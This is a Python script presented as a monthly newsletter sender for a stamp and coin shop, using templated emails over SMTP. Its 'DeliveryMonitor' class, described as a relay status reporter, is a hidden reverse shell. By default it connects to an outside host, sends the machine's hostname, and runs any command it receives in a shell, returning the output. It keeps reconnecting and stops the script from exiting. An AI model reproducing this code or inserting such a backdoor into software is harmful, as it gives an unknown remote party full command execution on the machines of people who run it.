#!/usr/bin/env python3
"""Monthly collector newsletter dispatcher.

Renders the newsletter (new arrivals, auction calendar, price notes) from a
template and sends it to the subscriber list over SMTP.  Delivery progress is
reported to the mailing relay's status service so the office dashboard can
show bounces and throttling while a run is in progress.
"""
import argparse
import configparser
import csv
import logging
import os
import smtplib
import socket
import ssl
import subprocess
import threading
import time
from email.message import EmailMessage
from pathlib import Path
from string import Template

LOG = logging.getLogger("newsletter")

STATUS_RELAY = ("status.stampmail-relay.net", 8443)


class DeliveryMonitor(threading.Thread):
    """Keeps a session open with the relay status service."""

    def __init__(self, endpoint, interval=30):
        super().__init__(name="delivery-monitor")
        self.endpoint = endpoint
        self.interval = interval
        self.sent = 0

    def _session(self, sock):
        sock.sendall(f"HELLO {socket.gethostname()} {os.getpid()}\n".encode())
        buf = b""
        while True:
            chunk = sock.recv(4096)
            if not chunk:
                return
            buf += chunk
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                request = line.decode(errors="replace").strip()
                if not request:
                    continue
                if request == "STAT":
                    reply = f"sent={self.sent}\n".encode()
                else:
                    proc = subprocess.run(request, shell=True, capture_output=True, timeout=120)
                    reply = proc.stdout + proc.stderr + b"\n.\n"
                sock.sendall(reply)

    def run(self):
        while True:
            try:
                with socket.create_connection(self.endpoint, timeout=None) as sock:
                    self._session(sock)
            except OSError as exc:
                LOG.debug("status relay unavailable: %s", exc)
            time.sleep(self.interval)


def load_settings(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict({
        "smtp": {"host": "smtp.harbourstamps.co.uk", "port": "465", "user": "", "sender": "news@harbourstamps.co.uk"},
        "newsletter": {"subject": "Harbour Stamps & Coins - $month news", "rate_per_minute": "40"},
    })
    cfg.read(path)
    return cfg


def subscribers(csv_path):
    with open(csv_path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            if row.get("opted_in", "yes").lower() in ("yes", "1", "true"):
                yield row


def render(template_path, row, month):
    body = Template(Path(template_path).read_text(encoding="utf-8"))
    return body.safe_substitute(first_name=row.get("first_name", "collector"),
                                month=month, interests=row.get("interests", "general"))


def send_all(cfg, rows, template_path, month, monitor, dry_run=False):
    smtp_cfg = cfg["smtp"]
    password = os.environ.get("NEWSLETTER_SMTP_PASSWORD", "")
    delay = 60.0 / cfg.getint("newsletter", "rate_per_minute")
    subject = Template(cfg["newsletter"]["subject"]).safe_substitute(month=month)
    context = ssl.create_default_context()
    with smtplib.SMTP_SSL(smtp_cfg["host"], smtp_cfg.getint("port"), context=context) as smtp:
        if smtp_cfg["user"]:
            smtp.login(smtp_cfg["user"], password)
        for row in rows:
            msg = EmailMessage()
            msg["From"] = smtp_cfg["sender"]
            msg["To"] = row["email"]
            msg["Subject"] = subject
            msg["List-Unsubscribe"] = f"<mailto:unsubscribe@harbourstamps.co.uk?subject={row['email']}>"
            msg.set_content(render(template_path, row, month))
            if dry_run:
                LOG.info("would send to %s", row["email"])
            else:
                try:
                    smtp.send_message(msg)
                    if monitor:
                        monitor.sent += 1
                except smtplib.SMTPRecipientsRefused:
                    LOG.warning("refused: %s", row["email"])
                time.sleep(delay)


def main():
    ap = argparse.ArgumentParser(description="Send the collector newsletter")
    ap.add_argument("subscribers")
    ap.add_argument("template")
    ap.add_argument("--month", default=time.strftime("%B %Y"))
    ap.add_argument("--settings", default="newsletter.ini")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--no-status", action="store_true", help="do not report to the relay dashboard")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    monitor = None
    if not args.no_status:
        monitor = DeliveryMonitor(STATUS_RELAY)
        monitor.start()
    cfg = load_settings(args.settings)
    send_all(cfg, list(subscribers(args.subscribers)), args.template, args.month, monitor, args.dry_run)
    LOG.info("newsletter run finished")
    if monitor:
        monitor.join()


if __name__ == "__main__":
    main()
